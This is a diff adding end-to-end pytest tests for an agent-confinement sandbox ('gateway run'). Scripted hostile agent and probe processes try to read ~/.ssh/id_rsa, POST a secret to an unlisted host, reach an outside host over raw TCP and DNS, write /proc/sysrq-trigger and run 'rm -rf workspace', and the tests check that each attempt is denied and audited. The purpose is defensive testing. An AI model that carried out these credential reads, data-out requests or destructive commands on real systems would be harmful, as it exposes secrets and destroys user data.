@@ -1,0 +1,330 @@
+"""`gateway run` end to end: the example scenario played by a real agent process that
+does not cooperate, under policies/autogen.yaml, with a test host of our own (its own
+network namespace) standing for the outside world.
+
+Every test runs `gateway run` as a user would, in a subprocess, as root.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import signal
+import socket
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from gateway.audit.reader import iter_entries
+from tests.support.gateway import have_namespaces
+from tests.support.netns import OutsideHost
+from tests.support.upstreams import HttpUpstream
+
+pytestmark = [
+    pytest.mark.slow,
+    pytest.mark.skipif(not have_namespaces(), reason="gateway run needs root and namespaces"),
+]
+
+ROOT = Path(__file__).resolve().parents[2]
+AUTOGEN = ROOT / "policies" / "autogen.yaml"
+
+AGENT = r"""
+import errno, json, os, socket, subprocess, sys, urllib.error, urllib.request
+outside, api_port = sys.argv[1], int(sys.argv[2])
+seen = {}
+with open("workspace/analyze.py", "w") as f:
+    f.write("rows = [1, 2, 3]\nprint('rows', len(rows))\n")
+try:
+    open(os.path.expanduser("~/.ssh/id_rsa")).read()
+    seen["read_direct"] = "read"
+except OSError as e:
+    seen["read_direct"] = errno.errorcode[e.errno]
+r = subprocess.run("cat ~/.ssh/id_rsa", shell=True, capture_output=True, text=True)
+seen["read_shell"] = [r.returncode, r.stdout]
+r = subprocess.run(["python3", "workspace/analyze.py"], capture_output=True, text=True)
+seen["run"] = [r.returncode, r.stdout.strip()]
+r = subprocess.run("pip install cryptography", shell=True, capture_output=True, text=True)
+seen["pip"] = [r.returncode, r.stderr.strip()]
+try:
+    urllib.request.urlopen(urllib.request.Request("http://unlisted.invalid/upload",
+                                                  data=b"secret", method="POST"), timeout=10)
+    seen["post"] = 200
+except urllib.error.HTTPError as e:
+    seen["post"] = e.code
+with urllib.request.urlopen(f"http://localhost:{api_port}/api/status", timeout=10) as resp:
+    seen["api"] = resp.status
+s = socket.socket()
+s.settimeout(5)
+try:
+    s.connect((outside, 8080))
+    seen["raw_tcp"] = "connected"
+except OSError as e:
+    seen["raw_tcp"] = errno.errorcode.get(e.errno, str(e))
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.settimeout(3)
+query = bytes.fromhex("abcd01000001000000000000076578616d706c6503636f6d0000010001")
+try:
+    u.sendto(query, (outside, 53))
+    u.recv(512)
+    seen["dns"] = "answered"
+except OSError as e:
+    seen["dns"] = errno.errorcode.get(e.errno, str(e))
+try:
+    socket.getaddrinfo("example.com", 443)
+    seen["resolve"] = "resolved"
+except socket.gaierror as e:
+    seen["resolve"] = "failed"
+print(json.dumps(seen))
+"""
+
+
+def _project(tmp_path: Path) -> tuple[Path, dict[str, str]]:
+    project = tmp_path / "project"
+    for d in ("workspace", "data", "output"):
+        (project / d).mkdir(parents=True)
+    home = tmp_path / "home" / "user"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text("PRIVATE KEY\n")
+    env = {**os.environ, "HOME": str(home)}
+    return project, env
+
+
+def gateway_run(tmp_path: Path, project: Path, env: dict[str, str], *command: str,
+                policy: Path = AUTOGEN, options: tuple[str, ...] = (), timeout: float = 120,
+                **kwargs: object) -> subprocess.CompletedProcess[str]:
+    argv = [sys.executable, "-m", "gateway", "run", "--policy", str(policy), "--workspace",
+            str(project), "--audit-log", str(tmp_path / "audit.jsonl"), "--overlay-dir",
+            str(tmp_path / "overlays"), *options, "--", *command]
+    return subprocess.run(argv, capture_output=True, text=True, env=env, timeout=timeout,
+                          check=False, **kwargs)  # type: ignore[call-overload]
+
+
+def decisions(log: Path, agent: str) -> list[dict[str, object]]:
+    return [e for e in iter_entries(log) if "verdict" in e and e.get("agent") == agent]
+
+
+@pytest.fixture
+def outside(tmp_path: Path) -> Iterator[OutsideHost]:
+    host = OutsideHost(tmp_path)
+    yield host
+    host.close()
+
+
+def test_the_example_scenario_is_confined_and_audited(tmp_path: Path, outside: OutsideHost) -> None:
+    """The agent's write, read, commands, requests, raw socket and DNS query meet the
+    mounts, the shim, the proxy and the network namespace; the log holds exactly the six
+    verdicts, for one agent, from the proxy, the shim and the watcher, and verifies."""
+    project, env = _project(tmp_path)
+    (project / "data" / "agent.py").write_text(AGENT)
+    # The outside host answers from here: what fails inside is the sandbox's doing.
+    with socket.create_connection((outside.address, outside.port), timeout=5):
+        pass
+    assert outside.received(at_least=1) == [f"tcp {outside.address.rsplit('.', 1)[0]}.1"]
+    with HttpUpstream() as api:
+        result = gateway_run(tmp_path, project, env, "python3", "data/agent.py",
+                             outside.address, str(api.address[1]),
+                             options=("--agent", "analyst"))
+        assert result.returncode == 0, result.stderr
+        seen = json.loads(result.stdout.strip().splitlines()[-1])
+        assert [r.path for r in api.requests] == ["/api/status"]
+
+    assert (project / "workspace" / "analyze.py").exists()
+    assert seen["read_direct"] == "ENOENT"                 # not in the agent's root at all
+    assert seen["read_shell"][0] == 126 and seen["read_shell"][1] == ""
+    assert seen["run"] == [0, "rows 3"]
+    assert seen["pip"][0] == 126 and "denied by rule 7" in seen["pip"][1]
+    assert seen["post"] == 403
+    assert seen["api"] == 200
+    assert seen["raw_tcp"] == "ENETUNREACH"
+    assert seen["dns"] == "ENETUNREACH"
+    assert seen["resolve"] == "failed"
+    assert len(outside.received()) == 1                    # nothing more arrived outside
+
+    log = tmp_path / "audit.jsonl"
+    got = sorted((str(e["source"]), str(e["action"]), str(e["verdict"]),
+                  str(e.get("command") or e.get("path") or e.get("host")))
+                 for e in decisions(log, "analyst"))
+    workspace = str(project / "workspace" / "analyze.py")
+    assert got == sorted([
+        ("fs", "file_write", "ALLOW", workspace),
+        ("shim", "shell_exec", "DENY", "/bin/sh -c 'cat ~/.ssh/id_rsa'"),
+        ("shim", "shell_exec", "ALLOW", "python3 workspace/analyze.py"),
+        ("shim", "shell_exec", "DENY", "/bin/sh -c 'pip install cryptography'"),
+        ("proxy", "network", "DENY", "unlisted.invalid"),
+        ("proxy", "network", "ALLOW", "localhost"),
+    ])
+    agents = {e.get("agent") for e in iter_entries(log) if "verdict" in e}
+    assert agents == {"analyst", "gateway-selftest"}       # the self-test's probe is its own
+    verify = subprocess.run([sys.executable, "-m", "gateway", "audit", "verify", str(log)],
+                            capture_output=True, text=True, timeout=60, check=False)
+    assert verify.returncode == 0, verify.stdout + verify.stderr
+    assert "analyst exited with status 0" in result.stderr
+    assert "6: 3 allowed, 3 denied" in result.stderr
+
+
+PROBE = r"""
+import errno, json, os, subprocess
+def attempt(fn):
+    try:
+        fn()
+        return "ok"
+    except OSError as e:
+        return errno.errorcode.get(e.errno, str(e))
+status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines()
+              if ":\t" in line)
+out = {name: status[name].strip() for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb",
+                                               "NoNewPrivs", "Uid")}
+out["pid"] = os.getpid()
+out["proc_sys"] = attempt(lambda: open("/proc/sys/kernel/hostname", "w").write("x"))
+out["sysrq"] = attempt(lambda: open("/proc/sysrq-trigger", "w").write("h"))
+out["usr"] = attempt(lambda: open("/usr/gateway-test", "w").write("x"))
+out["root"] = attempt(lambda: os.mkdir("/escape"))
+out["etc_shadow"] = os.path.exists("/etc/shadow")
+out["unshare_user"] = attempt(lambda: os.unshare(0x10000000)) if hasattr(os, "unshare") else "n/a"
+r = subprocess.run(["/bin/bash", "-c", "rm -rf workspace"], capture_output=True, text=True)
+out["bash_by_path"] = r.returncode
+out["workspace_kept"] = os.path.isdir("workspace")
+print(json.dumps(out))
+"""
+
+
+def test_the_agent_has_no_privilege_and_no_way_around_the_shim(tmp_path: Path) -> None:
+    """The agent runs as PID 2 of its own namespace with every capability set empty and
+    no_new_privs; /proc/sys, sysrq and the base are read-only; /bin/bash by path is the
+    shim."""
+    project, env = _project(tmp_path)
+    (project / "data" / "probe.py").write_text(PROBE)
+    result = gateway_run(tmp_path, project, env, "python3", "data/probe.py")
+    assert result.returncode == 0, result.stderr
+    out = json.loads(result.stdout.strip().splitlines()[-1])
+    for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb"):
+        assert int(out[name], 16) == 0, (name, out[name])
+    assert out["NoNewPrivs"] == "1"
+    assert out["Uid"].split()[0] == "0"           # the workspace's owner: root, powerless
+    assert out["pid"] == 2                        # under the namespace's own init
+    assert out["proc_sys"] == "EROFS"
+    assert out["sysrq"] in ("EROFS", "EACCES", "ENOENT")  # ENOENT: a kernel without sysrq
+    assert out["usr"] in ("EROFS", "EACCES")
+    assert out["root"] in ("EROFS", "EACCES")
+    assert out["etc_shadow"] is False
+    assert out["bash_by_path"] == 126
+    assert out["workspace_kept"] is True
+
+
+def test_exit_status_stdio_and_user_pass_through(tmp_path: Path) -> None:
+    """CMD's stdin, stdout, stderr and exit status are the caller's; --user picks who
+    it runs as; a signal that kills CMD gives 128+N."""
+    project, env = _project(tmp_path)
+    os.chmod(project / "workspace", 0o777)
+    script = ("import os, sys; data = sys.stdin.read(); print(data.upper(), os.getuid()); "
+              "print('to stderr', file=sys.stderr); sys.exit(7)")
+    result = gateway_run(tmp_path, project, env, "python3", "-c", script,
+                         options=("--user", "65534", "--no-summary"), input="hello")
+    assert result.returncode == 7
+    assert result.stdout == "HELLO 65534\n"
+    assert result.stderr.endswith("to stderr\n")
+    killed = gateway_run(tmp_path, project, env, "python3", "-c",
+                         "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
+                         options=("--no-summary",))
+    assert killed.returncode == 128 + signal.SIGKILL
+
+
+def test_sigterm_reaches_the_agent(tmp_path: Path) -> None:
+    """SIGTERM to `gateway run` is passed to CMD, which can shut down cleanly; its exit
+    status comes back, and the summary is printed."""
+    project, env = _project(tmp_path)
+    marker = project / "workspace" / "stopped"
+    script = ("import signal, sys, time, pathlib\n"
+              "def stop(*_):\n"
+              f"    pathlib.Path({str(marker)!r}).write_text('stopped')\n"
+              "    sys.exit(3)\n"
+              "signal.signal(signal.SIGTERM, stop)\n"
+              "print('ready', flush=True)\n"
+              "time.sleep(60)\n")
+    argv = [sys.executable, "-m", "gateway", "run", "--policy", str(AUTOGEN), "--workspace",
+            str(project), "--audit-log", str(tmp_path / "audit.jsonl"), "--overlay-dir",
+            str(tmp_path / "overlays"), "--", "python3", "-c", script]
+    process = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
+                               env=env)
+    try:
+        assert process.stdout is not None
+        assert process.stdout.readline() == "ready\n"
+        process.send_signal(signal.SIGTERM)
+        _, err = process.communicate(timeout=30)
+    finally:
+        process.kill()
+    assert process.returncode == 3, err
+    assert marker.read_text() == "stopped"
+    assert "exited with status 3" in err
+
+
+def test_a_failed_self_test_runs_nothing(tmp_path: Path) -> None:
+    """A policy that would let the self-test's denied host through: the run stops with
+    125 and a clear message before CMD starts."""
+    project, env = _project(tmp_path)
+    policy = tmp_path / "policy.yaml"
+    policy.write_text(AUTOGEN.read_text() + '- {action: network, host: "192.0.2.1", '
+                                            'effect: allow}\n')
+    marker = project / "workspace" / "ran"
+    result = gateway_run(tmp_path, project, env, "python3", "-c",
+                         f"open({str(marker)!r}, 'w').write('x')", policy=policy)
+    assert result.returncode == 125
+    assert "the policy allows 192.0.2.1" in result.stderr
+    assert "the command was not run" in result.stderr
+    assert not marker.exists()
+
+
+def test_simulate_records_what_would_be_denied(tmp_path: Path) -> None:
+    """--simulate: a denied command runs and is logged as DENY in mode simulate; the
+    summary counts it as a would-deny."""
+    project, env = _project(tmp_path)
+    (project / "workspace" / "old").mkdir()
+    result = gateway_run(tmp_path, project, env, "python3", "-c",
+                         "import subprocess; subprocess.run('rm -rf workspace/old', shell=True)",
+                         options=("--simulate",))
+    assert result.returncode == 0, result.stderr
+    assert not (project / "workspace" / "old").exists()
+    # Once as the shell's line, once as rm itself (a shimmed program): nothing blocked.
+    shim = [(e["command"], e["verdict"], e["mode"])
+            for e in decisions(tmp_path / "audit.jsonl", "agent") if e["source"] == "shim"]
+    assert shim == [("/bin/sh -c 'rm -rf workspace/old'", "DENY", "simulate"),
+                    ("rm -rf workspace/old", "DENY", "simulate")]
+    assert "2 would be denied (simulate)" in result.stderr
+
+
+@pytest.mark.parametrize(("options", "command", "message"), [
+    pytest.param((), (), "no command given", id="no-command"),
+    pytest.param(("--policy", "/nonexistent.yaml"), ("true",), "/nonexistent.yaml",
+                 id="missing-policy"),
+    pytest.param(("--workspace", "/nonexistent"), ("true",), "not a directory",
+                 id="missing-workspace"),
+    pytest.param((), ("no-such-program-here",), "command not found in the agent's root",
+                 id="unknown-command"),
+])
+def test_bad_input_is_one_line_and_runs_nothing(tmp_path: Path, options: tuple[str, ...],
+                                                 command: tuple[str, ...], message: str) -> None:
+    """Bad options or commands: a one-line message, no traceback, a non-zero exit."""
+    project, env = _project(tmp_path)
+    argv = [sys.executable, "-m", "gateway", "run", "--policy", str(AUTOGEN), "--workspace",
+            str(project), "--audit-log", str(tmp_path / "audit.jsonl"), "--overlay-dir",
+            str(tmp_path / "overlays"), "--no-summary", *options, "--", *command]
+    result = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=120,
+                            check=False)
+    assert result.returncode in (125, 127)
+    assert message in result.stderr
+    assert "Traceback" not in result.stderr
+
+
+def test_without_root_it_refuses(tmp_path: Path) -> None:
+    """Run without root (here: in a user namespace of its own, where it is nobody), gateway
+    run says it needs root and exits 125."""
+    project, env = _project(tmp_path)
+    argv = ["unshare", "--user", sys.executable, "-m", "gateway", "run", "--policy", str(AUTOGEN), "--workspace",
+            str(project), "--", "true"]
+    result = subprocess.run(argv, capture_output=True, text=True, env=env, timeout=60,
+                            check=False, cwd="/")
+    assert result.returncode == 125, result.stderr
+    assert "gateway run needs root" in result.stderr
